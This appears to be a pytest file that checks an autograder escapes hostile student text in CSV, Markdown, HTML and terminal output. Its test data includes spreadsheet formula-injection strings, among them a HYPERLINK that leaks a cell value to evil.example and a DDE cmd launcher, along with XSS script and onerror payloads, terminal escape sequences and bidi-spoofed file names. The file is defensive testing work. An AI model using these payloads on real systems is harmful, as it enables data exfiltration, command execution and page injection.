"""Student text is shown, never run: hostile names, ids, emails, file names and messages through
every output (CSV files, summary.md, feedback pages, the terminal). No kernels."""

import csv
import html.parser

import pytest
from markdown_it import MarkdownIt

from autograder.grading.records import GradeRecord, QuestionRecord
from autograder.grading.records import TestRecord as _TestRecord  # not a pytest class
from autograder.reports import write_reports
from autograder.reports.escape import for_html, for_markdown, for_spreadsheet, for_terminal
from autograder.reports.feedback_html import INDEX_SCRIPT
from autograder.reports.lms_rows import canvas_rows, moodle_rows
from autograder.reports.matching import Unmatched, missing_record
from autograder.reports.report import Report
from autograder.reports.roster import Student

POINTS = {"q_a": 8.0, "q_b": 10.0}
TITLE = "Optimisers"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "  =cmd|' /C calc'!A0",
    "\x1b]0;pwned\x07\x1b[2J\x1b[31mred",
    "line one\n# heading\r\nwarning: forged",
    "# heading",
    "[link](http://x)",
    "![img](x)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "`code` ``fence``",
    "\u202egpj.exe",
    "\x85\x9b31m",
    "x\udcffy",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
RAW_CONTROLS = ("\x1b", "\x07", "\r", "\x9b", "\x85", "\u202e")


def _hostile_record(i, text):
    """A record whose every student-controlled field is `text`; scores that go negative (one
    with a hostile identity, one with a plain one, which reaches the LMS files)."""
    return GradeRecord(
        file=f"{text}.ipynb",
        student_id=f"{text}" if i % 2 else f"{text}#{i}",
        status="graded" if i % 3 == 0 else "error",
        message=f"{text}\nHint: {text}",
        questions=(
            QuestionRecord(
                "q_a",
                -2.5 if i in (1, len(HOSTILE)) else 4,
                8,
                (_TestRecord(text, False, False, text),),
            ),
        ),
        content_hash="c" * 64,
        autograder_hash="a" * 64,
        name=text,
        email=text,
        extra={
            "canvas_user_id": text,
            "sis_user_id": text,
            "sis_login_id": text,
            "section": text,
        },
    )


@pytest.fixture(scope="module")
def outputs(tmp_path_factory):
    out = tmp_path_factory.mktemp("out")
    records = [_hostile_record(i, text) for i, text in enumerate(HOSTILE)]
    records.append(_hostile_record(len(HOSTILE), "Plain Name"))
    records += [missing_record(Student(id=f"{t}!", name=t, email=t)) for t in HOSTILE]
    unmatched = [
        Unmatched(r, r.student_id, r.name, r.email, f"on no roster line: tried email {r.email!r}")
        for r in records[: len(HOSTILE)]
    ]
    report = Report(records, POINTS, TITLE, "always", unmatched=unmatched)
    return write_reports(report, out), report


# the escape functions


def test_for_terminal_shows_control_and_bidi_characters_on_one_line():
    assert for_terminal("\x1b]0;t\x07a\r\nb\tc") == "\\x1b]0;t\\x07a\\r\\nb\\tc"
    assert for_terminal("\x9b31m\x85\x7f") == "\\x9b31m\\x85\\x7f"
    assert for_terminal("\u202egpj.exe \u2066x\u2069") == "\\u202egpj.exe \\u2066x\\u2069"
    assert for_terminal("bad\udcffbyte \u2028") == "bad\\udcffbyte \\u2028"
    assert for_terminal("Jörg Müller, 李, C:\\path") == "Jörg Müller, 李, C:\\path"
    assert for_terminal(7) == "7"


def test_for_markdown_is_a_code_span_longer_than_any_backtick_run():
    assert for_markdown("[a](b)") == "`[a](b)`"
    assert for_markdown("`x` ``y``") == "``` `x` ``y`` ```"
    assert for_markdown("a\n# b") == "`a\\n# b`"
    assert for_markdown("") == ""


def test_for_html_escapes_markup_and_quotes():
    assert for_html("<a href=\"x\" title='y'>&") == (
        "&lt;a href=&quot;x&quot; title=&#x27;y&#x27;&gt;&amp;"
    )


def test_for_html_shows_controls_but_keeps_line_breaks():
    assert for_html("\x1b]0;t\x07a\r\nb\tc \u202ex \udcff") == (
        "\\x1b]0;t\\x07a\\r\nb\tc \\u202ex \\udcff"
    )


@pytest.mark.parametrize("text", ["=1", "+1", "-2", "@A1", "\t=1", "\r=1", "   =1", " -x"])
def test_for_spreadsheet_defuses_every_formula_start(text):
    safe = for_spreadsheet(text)
    assert safe in ("'" + for_terminal(text), for_terminal(text))
    assert safe[0] in "'\\"  # quoted, or a visible escape (tab, CR) comes first


@pytest.mark.parametrize("text", ["Ada", "ada@example.org", "0042", "9001", "a-b", "x=1", ""])
def test_for_spreadsheet_keeps_plain_text(text):
    assert for_spreadsheet(text) == text


# every CSV

NUMBER_COLUMNS = {  # the total first
    "grades": ["total", "q_a", "q_b", "max"],
    "canvas": [TITLE],
    "moodle": [f"Assignment: {TITLE} (Real)"],
}


def _rows(path):
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.reader(stream))


@pytest.mark.parametrize("name", ["grades", "canvas", "moodle"])
def test_no_csv_text_cell_starts_a_formula_and_numbers_stay_numbers(outputs, name):
    files, report = outputs
    rows = _rows(files[name])
    header, body = rows[0], rows[2:] if name == "canvas" else rows[1:]
    written = {
        "grades": report.records,
        # an identity the guard would change is left out of an LMS file (and listed)
        "canvas": canvas_rows(report.by_student).rows,
        "moodle": moodle_rows(report.by_student, report.moodle_identifier).rows,
    }[name]
    assert len(body) == len(written) > 0  # one row each: no newline split a row
    numbers = [header.index(column) for column in NUMBER_COLUMNS[name]]
    for row in rows:
        for i, cell in enumerate(row):
            if i in numbers and row is not header:
                float(cell)  # the tool's own number, written as a number
            else:
                assert not cell.lstrip(" ").startswith(FORMULA_STARTS), (name, cell)
            assert not any(c in cell for c in RAW_CONTROLS), (name, cell)
    totals = sorted(float(row[numbers[0]]) for row in body)
    assert totals[0] == -2.5  # a negative total stays a number


def test_hostile_text_is_kept_readable_in_the_csv(outputs):
    files, _ = outputs
    cells = {cell for row in _rows(files["grades"]) for cell in row}
    assert "'@SUM(A1:A9)" in cells and "'+1" in cells and "\\t=1" in cells
    assert "\\x1b]0;pwned\\x07\\x1b[2J\\x1b[31mred" in cells
    assert "Plain Name" in cells


# summary.md


def _live_markdown(text):
    """Headings, links, images and raw HTML a CommonMark renderer makes of `text`, and the plain
    text outside code spans."""
    tokens = MarkdownIt("commonmark").enable("table").parse(text)
    found, plain = [], []
    for token in tokens:
        if token.type in ("heading_open", "html_block"):
            found.append((token.type, token.map))
        for child in token.children or []:
            if child.type in ("link_open", "image", "html_inline", "autolink"):
                found.append((child.type, child.content))
            if child.type == "text":
                plain.append(child.content)
    return found, " ".join(plain)


def test_summary_markdown_has_only_our_headings_and_no_live_student_markdown(outputs):
    files, report = outputs
    text = files["summary.md"].read_text(encoding="utf-8")
    live, plain = _live_markdown(text)
    headings = [
        f"# {TITLE}: grading summary",
        "## Not graded to the end (",
        f"## Matched to no roster student, in no LMS file ({len(HOSTILE)};",
        f"## On the roster, nothing submitted ({len(HOSTILE)})",
        "## Left out of canvas.csv (",
        "## Left out of moodle.csv (",
    ]
    assert [kind for kind, _ in live] == ["heading_open"] * len(headings)  # ours, below
    found = [line for line in text.splitlines() if line.startswith("#")]
    assert len(found) == len(headings)
    assert all(line.startswith(h) for line, h in zip(found, headings, strict=True)), found
    assert "](" not in plain and "<" not in plain and "http" not in plain
    assert not any(c in text for c in RAW_CONTROLS)
    assert "`[link](http://x)`" in text and "`\\x1b]0;pwned\\x07" in text


# feedback pages


class _Tags(html.parser.HTMLParser):
    def __init__(self, text):
        super().__init__()
        self.tags, self.attrs = set(), []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attrs += [name for name, _ in attrs]


def test_feedback_pages_hold_no_student_markup(outputs):
    files, _ = outputs
    pages = sorted(files["feedback"].parent.glob("*.html"))
    assert len(pages) == 2 * len(HOSTILE) + 2  # every student (submitted or missing), the index
    for page in pages:
        text = page.read_text(encoding="utf-8")
        parsed = _Tags(text)
        if page.name == "index.html":  # the index's own script, the only one, whole
            assert text.count("<script") == 1 and f"<script>{INDEX_SCRIPT}</script>" in text
            text = text.replace(f"<script>{INDEX_SCRIPT}</script>", "")
            parsed = _Tags(text)
        assert "<script>" not in text and "script" not in parsed.tags and "img" not in parsed.tags
        assert [a for a in parsed.attrs if a.startswith("on") or a == "src"] == []


# the terminal


def _assert_terminal_safe(lines):
    for line in lines:
        assert not any(c in line for c in RAW_CONTROLS), line
        assert line.isprintable(), line


def test_discovery_warnings_are_one_escaped_line_each(tmp_path, capsys):
    from autograder.authoring.zipfiles import write_reproducible_zip
    from autograder.batch.command import discover_and_warn

    nb = b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
    hostile = "\x1b]0;pwned\x07x\nwarning: forged\r\x1b[2K\u202e"
    write_reproducible_zip(
        tmp_path / "alice.zip",
        {f"{hostile}.ipynb": b"x" * 5000, "bob.ipynb": nb, f"../{hostile}.ipynb": nb},
    )
    (tmp_path / "bob.ipynb").write_bytes(nb)
    (tmp_path / f"{hostile}.txt").write_bytes(b"")
    args = [tmp_path / "alice.zip", tmp_path / "bob.ipynb", tmp_path / f"{hostile}.txt"]
    found = discover_and_warn([str(a) for a in args])
    err = capsys.readouterr().err
    lines = err.splitlines()
    assert len(lines) == len(found.warnings) >= 4  # too big, unsafe name, duplicate, ignored
    assert all(line.startswith("warning: ") for line in lines)
    _assert_terminal_safe(lines)
    assert "\\x1b]0;pwned\\x07x\\nwarning: forged\\r\\x1b[2K\\u202e" in err


def test_a_discovery_error_is_escaped_line_by_line(tmp_path):
    from autograder.batch.command import discover_and_warn
    from autograder.grading.submissions import SubmissionsError

    hostile = tmp_path / "\x1b]0;pwned\x07\nforged.txt"
    hostile.write_bytes(b"")
    with pytest.raises(SubmissionsError) as info:
        discover_and_warn([str(hostile)])
    lines = str(info.value).split("\n")
    assert lines[0].startswith("no notebooks found in ") and len(lines) == 3  # + two details
    assert all(line.startswith("  ") for line in lines[1:])
    assert "ignored, not a notebook" in lines[1]
    _assert_terminal_safe(lines)
    with pytest.raises(SubmissionsError, match="no such file or folder") as info:
        discover_and_warn([str(tmp_path / "gone\x1b[2J.zip")])
    _assert_terminal_safe(str(info.value).split("\n"))


def test_a_forged_sandbox_report_cannot_drive_the_terminal():
    from autograder.batch.runner import isolation_warning

    line = isolation_warning(["no user namespace", "\x1b[2J\x1b[Hwarning: all fine\x07\n"])
    assert line == (
        "sandbox: limited on this machine: no user namespace; "
        "\\x1b[2J\\x1b[Hwarning: all fine\\x07\\n"
    )
    _assert_terminal_safe([line])
